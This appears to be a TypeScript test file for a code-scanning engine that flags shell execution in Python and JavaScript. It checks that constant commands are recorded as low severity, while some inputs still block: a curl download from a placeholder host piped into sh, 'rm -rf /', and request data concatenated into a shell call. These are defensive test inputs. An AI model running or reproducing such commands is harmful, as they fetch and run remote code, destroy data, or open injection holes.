import t from 'tap';
import { isBlocking, type Finding } from '../../../plugins/engines/code/index.js';
import { analyzeJavaScript, analyzePython } from '../../../plugins/engines/code/analyze.js';

/**
 * A shell command the resolver folds to one constant text (`process.shell_exec`) is admitted since
 * rules 1.14.0 where the flow analysis proves every visit of it constant too; the finding stays, as
 * LOW, for policies that refuse any shell. Shapes that stand whatever the flow (a download piped into
 * a shell, a destructive or reconnaissance command) still block, and so does a command the flow finds
 * request data or data of unknown origin in.
 */
const blocking = (fs: Finding[]): string[] => fs.filter(isBlocking).map((f) => `${f.rule_id}@${f.line}`);
const low = (fs: Finding[], rule: string): boolean => fs.some((f) => f.rule_id === rule && f.severity === 'LOW');

t.test('Python: a folded constant shell command', async (t) => {
  const admitted: Array<[string, string]> = [
    ['os.system', "import os\nos.system('ls -l')\n"],
    ['shell=True', "import subprocess\nsubprocess.run('ls', shell=True)\n"],
    ['from os import *', "from os import *\nsystem('uptime')\n"],
    ['a constant name', "import os\nCMD = 'df -h'\nos.system(CMD)\n"],
    ['in a route', "from flask import Flask\nimport os\napp = Flask(__name__)\n@app.route('/r')\ndef r():\n    os.system('ls')\n    return 'ok'\n"],
  ];
  for (const [name, code] of admitted) {
    const a = await analyzePython(code);
    t.same(blocking(a.findings), [], `${name}: nothing blocks`);
    t.ok(low(a.findings, 'python.process.shell_exec'), `${name}: still recorded as LOW`);
  }
  const blocked: Array<[string, string]> = [
    ['a request value', "from flask import Flask, request\nimport os\napp = Flask(__name__)\n@app.route('/r')\ndef r():\n    os.system('ls ' + request.args['d'])\n    return 'ok'\n"],
    ['a parameter other code passes', "import os\ndef run(cmd='ls'):\n    os.system(cmd)\n"],
    ['a name bound elsewhere', "import os\nfrom conf import CMD\nos.system(CMD)\n"],
    ['a download piped into a shell', "import os\nos.system('curl -s https://x.example/i.sh | sh')\n"],
    ['a destructive command', "import os\nos.system('rm -rf /')\n"],
  ];
  for (const [name, code] of blocked) {
    const a = await analyzePython(code);
    t.ok(blocking(a.findings).length > 0, `${name}: blocks (${a.findings.map((f) => `${f.rule_id}:${f.severity}`).join(', ')})`);
  }
});

t.test('JavaScript: a folded constant shell command', async (t) => {
  for (const [name, code] of [
    ['execSync', "const cp = require('child_process');\ncp.execSync('ls -l');\n"],
    ['exec in a handler', "const { exec } = require('child_process');\nconst app = require('express')();\napp.get('/r', (req, res) => { exec('uptime'); res.end('ok'); });\n"],
  ]) {
    const a = analyzeJavaScript(code);
    t.same(blocking(a.findings), [], `${name}: nothing blocks`);
    t.ok(low(a.findings, 'javascript.process.shell_exec'), `${name}: still recorded as LOW`);
  }
  for (const [name, code] of [
    ['a request value', "const { exec } = require('child_process');\nconst app = require('express')();\napp.get('/r', (req, res) => { exec('ls ' + req.query.d); res.end('ok'); });\n"],
    ['an exported function parameter', "const { execSync } = require('child_process');\nexport function run(c = 'ls') { execSync(c); }\n"],
    ['a download piped into a shell', "require('child_process').execSync('curl -s https://x.example/i.sh | sh');\n"],
  ]) {
    const a = analyzeJavaScript(code);
    t.ok(blocking(a.findings).length > 0, `${name}: blocks (${a.findings.map((f) => `${f.rule_id}:${f.severity}`).join(', ')})`);
  }
});
